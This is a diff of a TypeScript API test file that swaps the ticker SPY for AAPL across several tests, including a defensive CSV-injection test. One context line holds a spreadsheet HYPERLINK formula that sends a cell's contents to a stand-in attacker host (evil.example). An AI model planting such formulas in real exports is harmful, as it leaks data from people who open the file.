@@ -132,7 +132,7 @@ describe('CSV answers neutralise formula-leading text cells, never numbers', () 
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
     await topUp(t.ctx, { accountId: account, usd: 10, reference: evil })
     const key = await t.key(account)
-    assert.equal((await t.client.call('getMetrics', { params: { ticker: 'SPY' }, key })).status, 200)
+    assert.equal((await t.client.call('getMetrics', { params: { ticker: 'AAPL' }, key })).status, 200)
     const r = await t.client.call('getAccountLedger', { query: { format: 'csv' }, key })
     assert.equal(r.status, 200, r.text)
     assert.match(r.headers['content-type'] ?? '', /^text\/csv/)
@@ -167,7 +167,7 @@ for (const b of BACKEND_PAIRS) {
       const ids: string[] = []
       for (const extra of [{}, { 'x-correlation-id': 'corr-2' }]) {
         const r = await t.app.fastify.inject({
-          url: '/metrics/SPY',
+          url: '/metrics/AAPL',
           headers: {
             authorization: `Bearer ${key}`,
             'x-request-id': victim,
@@ -190,7 +190,7 @@ for (const b of BACKEND_PAIRS) {
       const account = await t.account(1)
       const key = await t.key(account)
       const sessions = t.app.mcpSessions()
-      for (const url of ['/metrics/SPY', '/ticker-returns?ticker=SPY&years=1', '/mcp/sse', '/mcp']) {
+      for (const url of ['/metrics/AAPL', '/ticker-returns?ticker=AAPL&years=1', '/mcp/sse', '/mcp']) {
         const r = await t.app.fastify.inject({
           method: 'HEAD',
           url,
@@ -274,7 +274,7 @@ describe('test keys never reach the operator’s paid providers (Plaid, the LLM)
       assert.equal(h.statusCode, 200, h.body)
       assert.equal(JSON.parse(h.body).items[0].id, 'pli_sandbox')
     }
-    const ask = { messages: [{ role: 'user', content: 'What is the beta of SPY?' }] }
+    const ask = { messages: [{ role: 'user', content: 'What is the beta of AAPL?' }] }
     const c = await t.app.fastify.inject({ method: 'POST', url: '/chat', headers, payload: ask })
     assert.equal(c.statusCode, 200, c.body)
     assert.match(JSON.parse(c.body).message.content, /^\[sandbox\]/)
